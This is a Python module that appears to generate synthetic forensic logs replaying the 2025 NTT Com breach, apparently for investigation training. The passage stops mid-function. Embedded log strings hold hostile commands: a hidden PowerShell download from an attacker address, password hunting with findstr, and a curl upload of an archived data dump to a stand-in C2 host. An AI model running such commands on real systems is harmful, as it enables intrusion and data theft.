"""The NTT Communications 2025 breach, replayed: records of every step, in every log that would see it.

Public facts (NTT Com, 2025-03-05): suspicious communications to "device A" of the Order Information
Distribution System, access to device A's entry point restricted on Feb 5; data probably taken out;
unauthorized access involving "device B" found on Feb 15, B cut off the same day. The reports differ on
B: `pivot` (the attacker came in through B and moved to A) or `destination` (the attacker went from A
to B). Everything else (addresses, tools, times) is invented.
"""

from __future__ import annotations

import csv
import hashlib
import io
from collections.abc import Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING

import numpy as np
import pyarrow as pa

from breachscope.simulate import clock
from breachscope.simulate.attackdb import Query
from breachscope.simulate.network import Network
from breachscope.simulate.story import PgSession, PgStatement, Story

if TYPE_CHECKING:  # the truth's statement results (the scenario runs them before the story)
    from breachscope.simulate.exposure import StatementResult

ATTACKER = "203.0.113.45"
ATTACKER_2 = "203.0.113.46"
C2 = "203.0.113.80"
C2_NAME = "update-check.example.net"
VPN_IP = "10.99.0.21"
MAINT_PUBLIC = "198.51.100.22"  # static NAT of device A's maintenance console
MAINT_PORT = 8443
WORK_A = "C:\\ProgramData\\Microsoft\\Crypto\\RSA"
PUBLIC_B = "C:\\Users\\Public"
VENDOR = "mnt_vendor"  # remote-maintenance account (pivot variant)
DB_USER = "app_order"
SYSMON_IMAGE = {
    "cmd": "C:\\Windows\\System32\\cmd.exe", "ps": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    "w3wp": "C:\\Windows\\System32\\inetsrv\\w3wp.exe", "wmi": "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
    "explorer": "C:\\Windows\\explorer.exe", "psql": f"{WORK_A}\\psql.exe", "7z": f"{PUBLIC_B}\\7za.exe",
    "curl": "C:\\Windows\\System32\\curl.exe", "rdp": "C:\\Windows\\System32\\rdpclip.exe",
    "backdoor": "C:\\ProgramData\\SoftwareDistribution\\msupd.exe",
}


@dataclass
class StagedFile:
    name: str
    path: str  # relative to the output folder
    windows_path: str
    rows: int
    size: int
    sha256: str
    statement: str


@dataclass
class AttackOutput:
    story: Story
    timeline: list[dict] = field(default_factory=list)
    statements: list[dict] = field(default_factory=list)
    staged: list[StagedFile] = field(default_factory=list)
    exfil_bytes: int = 0
    hosts: dict = field(default_factory=dict)
    window: tuple[int, int] = (0, 0)
    silence: dict[str, int] = field(default_factory=dict)  # host -> time after which it writes nothing


def pg_csv(table: pa.Table) -> bytes:
    """Rows as PostgreSQL's COPY ... CSV HEADER writes them (NULL empty, quoted when needed)."""
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n", quoting=csv.QUOTE_MINIMAL)
    w.writerow(table.column_names)
    for row in zip(*(c.to_pylist() for c in table.columns), strict=True):
        w.writerow(["" if v is None else ('""' if v == "" else v) for v in row])
    return buf.getvalue().encode()


class NttAttack:
    def __init__(self, net: Network, story: Story, variant: str, rng: np.random.Generator) -> None:
        self.net = net
        self.s = story
        self.variant = variant
        self.rng = rng
        self.a = net.host("device_a")
        self.b = net.host("device_b")
        self.db = net.host("db")
        self.out = AttackOutput(story)
        self.pid = 30_000
        self.jump_ip = net.host("jump").ip  # where the network administrators log in to the routers from
        self.dom, self.fqdn, self.sid, self.nat = net.domain, net.fqdn, net.domain_sid, net.public_nat
        self.admin, self.netadmin = net.stolen_admin, net.network_admin

    # --- helpers ---------------------------------------------------------------------------------------------
    def at(self, month: int, day: int, h: int, m: int, s: float = 0.0) -> int:
        return clock.jst(2025, month, day, h, m, s) + int(self.rng.integers(0, 900_000))

    def note(self, ts: int, stage: str, text: str, actor: str = "attacker") -> None:
        self.out.timeline.append({"ts": ts, "stage": stage, "actor": actor, "description": text})

    def port(self) -> int:
        return int(self.rng.integers(49152, 65536))

    def proc(self, ts: int, host: str, image: str, cmd: str, parent: str, user: str, tag: str,
             integrity: str = "High") -> None:
        """Sysmon 1 and, on servers (process auditing on), Security 4688."""
        guid = "{" + "-".join(self.rng.bytes(n).hex() for n in (4, 2, 2, 2, 6)) + "}"
        pid = str(int(self.rng.integers(1000, 20000)) // 4 * 4)
        self.s.win(ts, host, 1, [
            ("RuleName", "-"), ("UtcTime", _utc(ts)), ("ProcessGuid", guid), ("ProcessId", pid), ("Image", image),
            ("FileVersion", "-"), ("Description", "-"), ("Product", "-"), ("Company", "-"),
            ("OriginalFileName", image.rsplit("\\", 1)[-1]), ("CommandLine", cmd),
            ("CurrentDirectory", "C:\\Windows\\system32\\"), ("User", user), ("LogonGuid", guid),
            ("LogonId", "0x" + self.rng.bytes(3).hex()), ("TerminalSessionId", "0"), ("IntegrityLevel", integrity),
            ("Hashes", "SHA256=" + hashlib.sha256(image.encode()).hexdigest().upper()),
            ("ParentProcessGuid", guid), ("ParentProcessId", "4242"), ("ParentImage", parent),
            ("ParentCommandLine", parent), ("ParentUser", user)], tag, sysmon=True)
        self.s.win(ts + 3_000, host, 4688, [
            ("SubjectUserSid", "S-1-5-18"), ("SubjectUserName", f"{host}$"), ("SubjectDomainName", self.dom),
            ("SubjectLogonId", "0x3e7"), ("NewProcessId", "0x" + format(int(pid), "x")), ("NewProcessName", image),
            ("TokenElevationType", "%%1936"), ("ProcessId", "0x1096"), ("CommandLine", cmd),
            ("TargetUserSid", "S-1-0-0"), ("TargetUserName", user.split("\\")[-1]), ("TargetDomainName", self.dom),
            ("TargetLogonId", "0x0"), ("ParentProcessName", parent), ("MandatoryLabel", "S-1-16-12288")], tag)

    def netconn(self, ts: int, host: str, image: str, user: str, src: str, sport: int, dst: str, dport: int,
                dst_name: str, tag: str) -> None:
        self.s.win(ts, host, 3, [
            ("RuleName", "-"), ("UtcTime", _utc(ts)), ("ProcessGuid", "{" + self.rng.bytes(16).hex() + "}"),
            ("ProcessId", "5124"), ("Image", image), ("User", user), ("Protocol", "tcp"), ("Initiated", "true"),
            ("SourceIsIpv6", "false"), ("SourceIp", src), ("SourceHostname", f"{host}.{self.fqdn}"),
            ("SourcePort", str(sport)), ("SourcePortName", "-"), ("DestinationIsIpv6", "false"),
            ("DestinationIp", dst), ("DestinationHostname", dst_name), ("DestinationPort", str(dport)),
            ("DestinationPortName", "-")], tag, sysmon=True)

    def file_created(self, ts: int, host: str, image: str, target: str, user: str, tag: str) -> None:
        self.s.win(ts, host, 11, [
            ("RuleName", "-"), ("UtcTime", _utc(ts)), ("ProcessGuid", "{" + self.rng.bytes(16).hex() + "}"),
            ("ProcessId", "4"), ("Image", image), ("TargetFilename", target), ("CreationUtcTime", _utc(ts)),
            ("User", user)], tag, sysmon=True)

    def logon(self, ts: int, host: str, user: str, ip: str, logon_type: str, tag: str, ntlm: bool = True,
              workstation: str = "-") -> None:
        sid = next((u.sid for u in self.net.users if u.sam == user), f"{self.sid}-1190")
        self.s.win(ts, host, 4624, [
            ("SubjectUserSid", "S-1-0-0"), ("SubjectUserName", "-"), ("SubjectDomainName", "-"),
            ("SubjectLogonId", "0x0"), ("TargetUserSid", sid), ("TargetUserName", user), ("TargetDomainName", self.dom),
            ("TargetLogonId", "0x" + self.rng.bytes(3).hex()), ("LogonType", logon_type),
            ("LogonProcessName", "NtLmSsp " if ntlm else "User32 "),
            ("AuthenticationPackageName", "NTLM" if ntlm else "Negotiate"), ("WorkstationName", workstation),
            ("LogonGuid", "{00000000-0000-0000-0000-000000000000}"), ("TransmittedServices", "-"),
            ("LmPackageName", "NTLM V2" if ntlm else "-"), ("KeyLength", "128" if ntlm else "0"),
            ("ProcessId", "0x0"), ("ProcessName", "-"), ("IpAddress", ip), ("IpPort", str(self.port())),
            ("ImpersonationLevel", "%%1833"), ("RestrictedAdminMode", "-"), ("TargetOutboundUserName", "-"),
            ("TargetOutboundDomainName", "-"), ("VirtualAccount", "%%1843"), ("TargetLinkedLogonId", "0x0"),
            ("ElevatedToken", "%%1842")], tag)
        self.s.win(ts + 1_000, host, 4672, [
            ("SubjectUserSid", sid), ("SubjectUserName", user), ("SubjectDomainName", self.dom),
            ("SubjectLogonId", "0x" + self.rng.bytes(3).hex()),
            ("PrivilegeList", "SeSecurityPrivilege\r\n\t\t\tSeBackupPrivilege\r\n\t\t\tSeRestorePrivilege\r\n\t\t\t"
                              "SeTakeOwnershipPrivilege\r\n\t\t\tSeDebugPrivilege")], tag)

    def share(self, ts: int, host: str, user: str, ip: str, share: str, target: str, write: bool, tag: str,
              ref: str = "") -> None:
        sid = next((u.sid for u in self.net.users if u.sam == user), f"{self.sid}-1190")
        base = [("SubjectUserSid", sid), ("SubjectUserName", user), ("SubjectDomainName", self.dom),
                ("SubjectLogonId", "0x" + self.rng.bytes(3).hex()), ("ObjectType", "File"), ("IpAddress", ip),
                ("IpPort", str(self.port())), ("ShareName", f"\\\\*\\{share}"), ("ShareLocalPath", "\\??\\C:\\")]
        self.s.win(ts, host, 5140, [*base, ("AccessMask", "0x1"), ("AccessList", "%%4416\r\n\t\t\t\t")], tag, ref=ref)
        access = ("%%1537\r\n\t\t\t\t%%1538\r\n\t\t\t\t%%1541\r\n\t\t\t\t%%4417\r\n\t\t\t\t%%4418\r\n\t\t\t\t" if write
                  else "%%1538\r\n\t\t\t\t%%1541\r\n\t\t\t\t%%4416\r\n\t\t\t\t%%4419\r\n\t\t\t\t%%4423\r\n\t\t\t\t")
        self.s.win(ts + 40_000, host, 5145, [*base, ("RelativeTargetName", target),
                                             ("AccessMask", "0x130197" if write else "0x120089"),
                                             ("AccessList", access), ("AccessReason", "-")], tag, ref=ref)

    def tls(self, ts: int, src: str, dst: str, sni: str, up: int, down: int, dur: float, tag: str,
            nat: bool = True, ref: str = "") -> None:
        """An outbound TLS connection through the firewall: Zeek conn + ssl, ASA build/teardown, NetFlow."""
        sport = self.port()
        uid = self.s.conn(ts, src, sport, dst, 443, "tcp", "ssl", dur, up, down, tag=tag, ref=ref)
        self.s.ssl(ts + 30_000, uid, src, sport, dst, 443, sni, tag, ref)
        cid = int(self.rng.integers(190_000_000, 199_000_000))
        nport = self.port()
        self.s.asa(ts, "6-302013", f"Built outbound TCP connection {cid} for outside:{dst}/443 ({dst}/443) to "
                   f"inside:{src}/{sport} ({self.nat}/{nport})", tag, ref)
        end = ts + int(dur * clock.US)
        self.s.asa(end, "6-302014", f"Teardown TCP connection {cid} for outside:{dst}/443 to inside:{src}/{sport} "
                   f"duration {_hms(dur)} bytes {up + down} TCP FINs from inside", tag, ref)
        self.s.flow(ts, end, src, dst, sport, 443, 6, up + max(1, up // 1400) * 40, max(1, up // 1400), tag, ref)
        self.s.flow(ts + 300, end, dst, src, 443, sport, 6, down + max(1, down // 1400) * 40, max(1, down // 1400),
                    tag, ref, in_if="1", out_if="3")

    # --- the story -------------------------------------------------------------------------------------------
    def build(self, queries: list[Query], results: Mapping[str, StatementResult], export_dir: Path) -> AttackOutput:
        pivot = self.variant == "pivot"
        a, b = self.a.name, self.b.name
        entry = b if pivot else a
        self.out.hosts = {
            "device_a": {"name": a, "ip": self.a.ip, "role": "order system application server"},
            "device_b": {"name": b, "ip": self.b.ip, "role": "maintenance terminal on the internal network"},
            "entry": {"name": entry, "ip": self.b.ip if pivot else self.a.ip},
            "database": {"name": self.db.name, "ip": self.db.ip, "database": "orders", "user": DB_USER},
            "external": {"initial_access": ATTACKER, "later_attempts": ATTACKER_2, "c2_and_exfiltration": C2,
                         "c2_name": C2_NAME, **({"vpn_address": VPN_IP} if pivot else {})},
        }
        first = self._initial_access(pivot)
        self._discovery(pivot)
        self._lateral(pivot)
        self._database(queries, results, pivot)
        self._staging(queries, results, export_dir, pivot)
        self._transfer(pivot)
        self._exfiltration()
        self._restriction(pivot)
        self._after_restriction(pivot)
        cut = self._cut_off_b()
        self.note(clock.jst(2025, 3, 5, 15, 0), "announcement", "NTT Com announces the incident", "defender")
        self.out.window = (first, cut)
        self.out.timeline.sort(key=lambda e: e["ts"])
        return self.out

    def _initial_access(self, pivot: bool) -> int:
        s, a, b = self.s, self.a, self.b
        t = self.at(1, 21, 1, 12)
        if pivot:
            tag = "attack:initial_access"
            s.asa(t, "6-113039", f"Group <VendorVPN> User <{VENDOR}> IP <{ATTACKER}> AnyConnect parent session "
                  "started.", tag)
            s.asa(t + 2 * clock.US, "4-722051", f"Group <VendorVPN> User <{VENDOR}> IP <{ATTACKER}> IPv4 Address "
                  f"<{VPN_IP}> IPv6 address <::> assigned to session", tag)
            t1 = t + 40 * clock.US
            s.conn(t1, VPN_IP, self.port(), b.ip, 3389, "tcp", "ssl", 3720.5, 2_400_000, 18_000_000, tag=tag)
            self.logon(t1 + 2 * clock.US, b.name, VENDOR, VPN_IP, "10", tag, ntlm=False, workstation="VENDOR-PC")
            self.note(t, "initial_access", f"VPN login as {VENDOR} from {ATTACKER}, RDP to device B ({b.name})")
            return t
        tag = "attack:initial_access"
        sport = self.port()
        cid = int(self.rng.integers(190_000_000, 199_000_000))
        s.asa(t, "6-302013", f"Built inbound TCP connection {cid} for outside:{ATTACKER}/{sport} ({ATTACKER}/{sport}) "
              f"to dmz:{a.ip}/{MAINT_PORT} ({MAINT_PUBLIC}/{MAINT_PORT})", tag)
        uid = s.conn(t + 5_000, ATTACKER, sport, a.ip, MAINT_PORT, "tcp", "ssl", 48.2, 18_400, 6_100, tag=tag)
        console = f"{self.net.spec.maintenance_console}.{self.fqdn}"
        s.ssl(t + 40_000, uid, ATTACKER, sport, a.ip, MAINT_PORT, console, tag)
        s.asa(t + 48 * clock.US, "6-302014", f"Teardown TCP connection {cid} for outside:{ATTACKER}/{sport} to "
              f"dmz:{a.ip}/{MAINT_PORT} duration 0:00:48 bytes 24500 TCP FINs from outside", tag)
        pool = "IIS APPPOOL\\OrderMaint"
        self.proc(t + 20 * clock.US, a.name, SYSMON_IMAGE["cmd"], "cmd.exe /c whoami", SYSMON_IMAGE["w3wp"], pool, tag)
        dl = (f"cmd.exe /c powershell -nop -w hidden -c \"iwr http://{ATTACKER}/u.ps1 -OutFile "
              f"{WORK_A}\\u.ps1\"")
        self.proc(t + 31 * clock.US, a.name, SYSMON_IMAGE["cmd"], dl, SYSMON_IMAGE["w3wp"], pool, tag)
        self.netconn(t + 33 * clock.US, a.name, SYSMON_IMAGE["ps"], pool, a.ip, self.port(), ATTACKER, 80, "-", tag)
        self.file_created(t + 34 * clock.US, a.name, SYSMON_IMAGE["ps"], f"{WORK_A}\\u.ps1", pool, tag)
        self.note(t, "initial_access", f"exploit of device A's maintenance console ({MAINT_PUBLIC}:{MAINT_PORT}) "
                  f"from {ATTACKER}; web shell commands under the application pool")
        return t

    def _discovery(self, pivot: bool) -> None:
        host = self.b.name if pivot else self.a.name
        user = f"{self.dom}\\{VENDOR}" if pivot else "IIS APPPOOL\\OrderMaint"
        parent = SYSMON_IMAGE["explorer"] if pivot else SYSMON_IMAGE["w3wp"]
        cmds = ["whoami /all", "ipconfig /all", "net group \"Domain Admins\" /domain",
                f"nltest /dclist:{self.dom.lower()}",
                f"net view \\\\{self.db.name.upper()}", "findstr /si \"Password\" C:\\inetpub\\OrderApp\\*.config"
                if not pivot else "findstr /si \"Password\" C:\\Users\\Public\\*.ps1 C:\\Tools\\*.bat"]
        t = self.at(1, 22, 0, 40)
        for i, c in enumerate(cmds):
            tag = "attack:credential_access" if c.startswith("findstr") else "attack:discovery"
            self.proc(t + i * 47 * clock.US, host, SYSMON_IMAGE["cmd"], f"cmd.exe /c {c}", parent, user, tag)
        self.note(t, "discovery", f"discovery commands on {host}; credentials of {self.admin} found in a configuration "
                  "file")

    def _lateral(self, pivot: bool) -> None:
        a, b = self.a, self.b
        if pivot:  # from B to A with the administrator's credentials (WMI)
            t = self.at(1, 24, 23, 50)
            tag = "attack:lateral_movement"
            self.s.conn(t, b.ip, self.port(), a.ip, 135, "tcp", "dce_rpc", 0.4, 1_200, 900, tag=tag)
            self.logon(t + 300_000, a.name, self.admin, b.ip, "3", tag, workstation=b.name)
            self.proc(t + 2 * clock.US, a.name, SYSMON_IMAGE["cmd"], f"cmd.exe /q /c mkdir {WORK_A}",
                      SYSMON_IMAGE["wmi"], f"{self.dom}\\{self.admin}", tag)
            self.note(t, "lateral_movement", f"from device B to device A over WMI as {self.admin}")
        else:  # from A to B: a backdoor service on B with the administrator's credentials
            t = self.at(1, 27, 1, 30)
            tag = "attack:lateral_movement"
            sport = self.port()
            uid = self.s.conn(t, a.ip, sport, b.ip, 445, "tcp", "smb,gssapi", 12.5, 412_000, 9_000, tag=tag)
            self.s.zeek("smb_mapping", t + 200_000, {"uid": uid, "id.orig_h": a.ip, "id.orig_p": str(sport),
                                                     "id.resp_h": b.ip, "id.resp_p": "445",
                                                     "path": f"\\\\\\\\{b.name}\\\\ADMIN$", "service": "-",
                                                     "native_file_system": "-", "share_type": "DISK"}, tag)
            self.logon(t + 100_000, b.name, self.admin, a.ip, "3", tag, workstation=a.name)
            self.share(t + 300_000, b.name, self.admin, a.ip, "ADMIN$", "SoftwareDistribution\\msupd.exe", True, tag)
            self.file_created(t + 2 * clock.US, b.name, "System", SYSMON_IMAGE["backdoor"], "NT AUTHORITY\\SYSTEM", tag)
            self.proc(t + 5 * clock.US, b.name, SYSMON_IMAGE["backdoor"], f"{SYSMON_IMAGE['backdoor']} -svc",
                      "C:\\Windows\\System32\\services.exe", "NT AUTHORITY\\SYSTEM", tag, "System")
            self.note(t, "lateral_movement", f"from device A to device B ({b.name}) as {self.admin}: backdoor service")

    def _database(self, queries: list[Query], results: Mapping[str, StatementResult], pivot: bool) -> None:
        a, dbh = self.a, self.db
        starts = {1: (1, 28, 1, 55), 2: (1, 29, 1, 20), 3: (1, 30, 1, 35), 4: (1, 31, 2, 5), 5: (2, 3, 1, 45),
                  6: (2, 4, 2, 10), 7: (2, 4, 2, 14)}
        user = f"{self.dom}\\{self.admin}" if pivot else "IIS APPPOOL\\OrderMaint"
        parent = SYSMON_IMAGE["wmi"] if pivot else SYSMON_IMAGE["w3wp"]
        for session in sorted({q.session for q in queries}):
            qs = [q for q in queries if q.session == session]
            t0 = self.at(*starts[session])
            script = qs[0].client == "script"
            port = self.port()
            if script:
                cmd = (f"powershell.exe -NoProfile -ExecutionPolicy Bypass -File {WORK_A}\\sync.ps1 "
                       f"-Part {session}")
                image = SYSMON_IMAGE["ps"]
            else:
                cmd = f"{SYSMON_IMAGE['psql']} -h {dbh.ip} -U {DB_USER} -d orders -f {WORK_A}\\r{session}.sql"
                image = SYSMON_IMAGE["psql"]
            self.proc(t0 - 2 * clock.US, a.name, image, cmd, parent, user, "attack:db_query")
            self.netconn(t0 - 1 * clock.US, a.name, image, user, a.ip, port, dbh.ip, 5432, f"{dbh.name}.{self.fqdn}",
                         "attack:db_query")
            t = t0
            stmts = []
            rows_total = 0
            for q in qs:
                t += int(self.rng.integers(300_000, 2_500_000))
                params = [str(p) for p in q.params] if q.client == "script" else ()
                stmts.append(PgStatement(t, q.sql, q.relations, params, copy=q.copy, ref=q.ref))
                rows = results[q.ref].rows
                rows_total += rows
                t += int(rows * 120) + int(self.rng.integers(200_000, 900_000))  # fetching and writing the rows
            self.pid += int(self.rng.integers(5, 400))
            closed = t + int(self.rng.integers(50_000, 400_000))
            app = "order-api" if script else "psql"
            sess = PgSession(a.ip, port, DB_USER, app, self.pid, t0, closed, stmts)
            self.s.pg(sess, "attack:db_query")
            self.s.conn(t0, a.ip, port, dbh.ip, 5432, "tcp", "-", (closed - t0) / clock.US, 2_000 + 600 * len(qs),
                        200 + rows_total * 190, tag="attack:db_query")
            for st in stmts:
                q = next(x for x in qs if x.ref == st.ref)
                self.out.statements.append({"ref": q.ref, "kind": q.kind, "session": session, "pid": self.pid,
                                            "ts": st.ts, "client": f"{a.ip}:{port}", "application": app,
                                            "user": DB_USER, "sql": q.sql, "params": q.params,
                                            "certain": q.certain, "output_file": q.output_file or None})
            self.note(t0, "db_query", f"session {session} on device A through its database account {DB_USER}: "
                      f"{len(qs)} statement(s), {rows_total} rows returned ({app})")

    def _staging(self, queries: list[Query], results: Mapping[str, StatementResult], export_dir: Path,
                 pivot: bool) -> None:
        user = f"{self.dom}\\{self.admin}" if pivot else "IIS APPPOOL\\OrderMaint"
        for q in queries:
            if not q.output_file:
                continue
            table = results[q.ref].table
            if table is None:  # the scenario keeps the rows of every statement with an output file
                raise ValueError(f"{q.ref}: the rows written to {q.output_file} were not kept")
            data = pg_csv(table)
            st = next(s for s in self.out.statements if s["ref"] == q.ref)
            t = st["ts"] + int(table.num_rows * 120) + 200_000
            self.file_created(t, self.a.name, SYSMON_IMAGE["psql"], f"{WORK_A}\\{q.output_file}", user,
                              "attack:staging")
            rel = f"evidence/hosts/{self.b.name}/C/Users/Public/{q.output_file}"
            path = export_dir / rel
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(data)
            self.out.staged.append(StagedFile(q.output_file, rel, f"{PUBLIC_B}\\{q.output_file}", table.num_rows,
                                              len(data), hashlib.sha256(data).hexdigest(), q.ref))
            self.note(t, "staging", f"{q.output_file} written on device A ({table.num_rows} rows, {len(data)} bytes)")

    def _transfer(self, pivot: bool) -> None:
        a, b = self.a, self.b
        t = self.at(2, 5, 3, 5)
        tag = "attack:transfer"
        sport = self.port()
        total = sum(f.size for f in self.out.staged)
        if pivot:  # B pulls the files from A's administrative share
            orig, resp, share_host, action = b, a, a, "SMB::FILE_READ"
            rel_dir = "ProgramData\\Microsoft\\Crypto\\RSA"
        else:  # A pushes them to B's administrative share
            orig, resp, share_host, action = a, b, b, "SMB::FILE_WRITE"
            rel_dir = "Users\\Public"
        uid = self.s.conn(t, orig.ip, sport, resp.ip, 445, "tcp", "smb,gssapi", 6.8,
                          total + 9_000 if not pivot else 9_000, 6_000 if not pivot else total + 6_000, tag=tag)
        self.s.zeek("smb_mapping", t + 150_000, {"uid": uid, "id.orig_h": orig.ip, "id.orig_p": str(sport),
                                                 "id.resp_h": resp.ip, "id.resp_p": "445",
                                                 "path": f"\\\\\\\\{share_host.name}\\\\C$", "service": "-",
                                                 "native_file_system": "-", "share_type": "DISK"}, tag)
        self.logon(t + 60_000, share_host.name, self.admin, orig.ip, "3", tag, workstation=orig.name)
        for i, f in enumerate(self.out.staged):
            ft = t + (i + 1) * 1_500_000
            self.share(ft, share_host.name, self.admin, orig.ip, "C$", f"{rel_dir}\\{f.name}", not pivot, tag, f.name)
            mtime = clock.epoch_s6(np.array([ft]))[0].as_py()
            self.s.zeek("smb_files", ft + 100_000, {
                "uid": uid, "id.orig_h": orig.ip, "id.orig_p": str(sport), "id.resp_h": resp.ip, "id.resp_p": "445",
                "fuid": self.s.uid(b"F"), "action": action, "path": f"\\\\\\\\{share_host.name}\\\\C$",
                "name": f"{rel_dir}\\{f.name}".replace("\\", "\\\\"), "size": str(f.size), "times.modified": mtime,
                "times.accessed": mtime, "times.created": mtime, "times.changed": mtime}, tag, f.name)
            writer = "System" if not pivot else SYSMON_IMAGE["explorer"]
            self.file_created(ft + 200_000, b.name, writer, f"{PUBLIC_B}\\{f.name}",
                              "NT AUTHORITY\\SYSTEM" if not pivot else f"{self.dom}\\{VENDOR}", tag)
        direction = "copied from device A to device B" if not pivot else "pulled by device B from device A"
        self.note(t, "transfer", f"{len(self.out.staged)} staged files ({total} bytes) {direction} over SMB")

    def _exfiltration(self) -> None:
        b = self.b
        t = self.at(2, 5, 3, 31)
        user = f"{self.dom}\\{VENDOR}" if self.variant == "pivot" else "NT AUTHORITY\\SYSTEM"
        parent = SYSMON_IMAGE["explorer"] if self.variant == "pivot" else SYSMON_IMAGE["backdoor"]
        files = " ".join(f"{PUBLIC_B}\\{f.name}" for f in self.out.staged)
        archive = int(sum(f.size for f in self.out.staged) * 0.31) + 220
        tag = "attack:exfiltration"
        self.proc(t, b.name, SYSMON_IMAGE["7z"], f"{SYSMON_IMAGE['7z']} a -mx9 -p{self.rng.bytes(4).hex()} "
                  f"{PUBLIC_B}\\upd_0205.7z {files}", parent, user, tag)
        self.file_created(t + 4 * clock.US, b.name, SYSMON_IMAGE["7z"], f"{PUBLIC_B}\\upd_0205.7z", user, tag)
        t2 = t + 11 * 60 * clock.US
        self.s.dns(t2 - 300_000, b.ip, C2_NAME, C2, tag)
        self.proc(t2 - 200_000, b.name, SYSMON_IMAGE["curl"], f"curl.exe -k -s -T {PUBLIC_B}\\upd_0205.7z "
                  f"https://{C2_NAME}/api/v2/sync", parent, user, tag)
        self.netconn(t2 - 100_000, b.name, SYSMON_IMAGE["curl"], user, b.ip, self.port(), C2, 443, C2_NAME, tag)
        up = archive + 4_200
        self.tls(t2, b.ip, C2, C2_NAME, up, 5_800, 41.7, tag)
        self.out.exfil_bytes = up
        self.note(t2, "exfiltration", f"archive of the staged files ({archive} bytes) uploaded from device B to "
                  f"{C2} ({C2_NAME}) over HTTPS")

    def _restriction(self, pivot: bool) -> None:
        r = self.net.host("entry_router").name
        t = clock.jst(2025, 2, 5, 10, 40)
        self.note(t, "detection", "security team notices suspicious communications to device A", "defender")
        t = self.at(2, 5, 11, 52)
        tag = "response:restrict_device_a"
        s = self.s
        s.ios(t, r, "SEC_LOGIN-5-LOGIN_SUCCESS", f"Login Success [user: {self.netadmin}] [Source: {self.jump_ip}] "
              f"[localport: 22] "
              f"at {_cisco_at(t)}", tag)
        rule = (f"10 deny ip host {self.b.ip} host {self.a.ip} log" if pivot
                else f"10 deny tcp any host {self.a.ip} eq {MAINT_PORT} log")
        cmds = ["ip access-list extended ORD-A-IN", rule, "20 permit ip any any", "interface GigabitEthernet0/0/2",
                "ip access-group ORD-A-IN in"]
        for i, c in enumerate(cmds):
            s.ios(t + (20 + 9 * i) * clock.US, r, "PARSER-5-CFGLOG_LOGGEDCMD",
                  f"User:{self.netadmin}  logged command:{c}",
                  tag)
        s.ios(t + 80 * clock.US, r, "SYS-5-CONFIG_I", f"Configured from console by {self.netadmin} on vty0 "
              f"({self.jump_ip})", tag)
        self.note(t, "restriction", f"access to device A's entry point restricted on {r} (ACL ORD-A-IN)", "defender")

    def _after_restriction(self, pivot: bool) -> None:
        r = self.net.host("entry_router").name
        a, b = self.a, self.b
        for day in range(5, 15):
            for _ in range(int(self.rng.integers(2, 6))):
                t = self.at(2, day, int(self.rng.integers(0, 24)), int(self.rng.integers(0, 60)))
                if t < clock.jst(2025, 2, 5, 12, 0):
                    continue
                tag = "attack:denied_attempt"
                sport = self.port()
                if pivot:
                    dport = int(self.rng.choice([445, 3389, 135]))
                    self.s.ios(t, r, "SEC-6-IPACCESSLOGP", f"list ORD-A-IN denied tcp {b.ip}({sport}) -> "
                               f"{a.ip}({dport}), 1 packet", tag)
                    self.s.conn(t - 1_000, b.ip, sport, a.ip, dport, "tcp", "-", 3.0, 0, 0, "S0", tag=tag)
                else:
                    src = ATTACKER if self.rng.random() < 0.5 else ATTACKER_2
                    self.s.ios(t, r, "SEC-6-IPACCESSLOGP", f"list ORD-A-IN denied tcp {src}({sport}) -> "
                               f"{a.ip}({MAINT_PORT}), 1 packet", tag)
                    cid = int(self.rng.integers(190_000_000, 199_000_000))
                    self.s.asa(t - 2_000, "6-302013", f"Built inbound TCP connection {cid} for outside:{src}/{sport} "
                               f"({src}/{sport}) to dmz:{a.ip}/{MAINT_PORT} ({MAINT_PUBLIC}/{MAINT_PORT})", tag)
                    self.s.asa(t + 30 * clock.US, "6-302014", f"Teardown TCP connection {cid} for outside:{src}/"
                               f"{sport} to dmz:{a.ip}/{MAINT_PORT} duration 0:00:30 bytes 0 SYN Timeout", tag)
        self.note(clock.jst(2025, 2, 5, 12, 0), "denied_attempt", "later attempts to reach device A are denied "
                  f"by {r} (ORD-A-IN)")
        # the attacker keeps a foothold on B: sparse C2 and probing of the file servers
        t = clock.jst(2025, 2, 5, 14, 0)
        while t < clock.jst(2025, 2, 15, 9, 0):
            t += int(self.rng.integers(90, 300)) * 60 * clock.US
            self.tls(t, b.ip, C2, C2_NAME, int(self.rng.integers(900, 3000)), int(self.rng.integers(400, 9000)),
                     float(self.rng.uniform(0.3, 2.5)), "attack:c2")
        self.note(clock.jst(2025, 2, 5, 14, 0), "c2", f"device B keeps calling {C2_NAME} every few hours")
        t = self.at(2, 10, 2, 15)
        fs = self.net.host("fs")
        guesses = (*self.net.other_admins[:3], "administrator")  # the admin accounts, and the built-in one
        for i in range(18):
            user = guesses[i % len(guesses)]
            self.s.win(t + i * 4 * clock.US, fs.name, 4625, [
                ("SubjectUserSid", "S-1-0-0"), ("SubjectUserName", "-"), ("SubjectDomainName", "-"),
                ("SubjectLogonId", "0x0"), ("TargetUserSid", "S-1-0-0"), ("TargetUserName", user),
                ("TargetDomainName", self.dom), ("Status", "0xc000006d"), ("FailureReason", "%%2313"),
                ("SubStatus", "0xc000006a"), ("LogonType", "3"), ("LogonProcessName", "NtLmSsp "),
                ("AuthenticationPackageName", "NTLM"), ("WorkstationName", b.name), ("TransmittedServices", "-"),
                ("LmPackageName", "-"), ("KeyLength", "0"), ("ProcessId", "0x0"), ("ProcessName", "-"),
                ("IpAddress", b.ip), ("IpPort", str(self.port()))], "attack:credential_access", failure=True)
        t2 = t + 20 * 60 * clock.US
        self.logon(t2, fs.name, self.admin, b.ip, "3", "attack:lateral_movement", workstation=b.name)
        self.share(t2 + clock.US, fs.name, self.admin, b.ip, "Shared", "Sales\\2025", False, "attack:lateral_movement")
        self.note(t, "credential_access", f"password guessing from device B against {fs.name}, then access as "
                  f"{self.admin}")

    def _cut_off_b(self) -> int:
        r = self.net.host("entry_router").name
        self.note(clock.jst(2025, 2, 15, 9, 30), "detection", "unauthorized access involving device B found",
                  "defender")
        t = self.at(2, 15, 10, 20)
        tag = "response:isolate_device_b"
        s = self.s
        s.ios(t, r, "SEC_LOGIN-5-LOGIN_SUCCESS", f"Login Success [user: {self.netadmin}] [Source: {self.jump_ip}] "
              f"[localport: 22] "
              f"at {_cisco_at(t)}", tag)
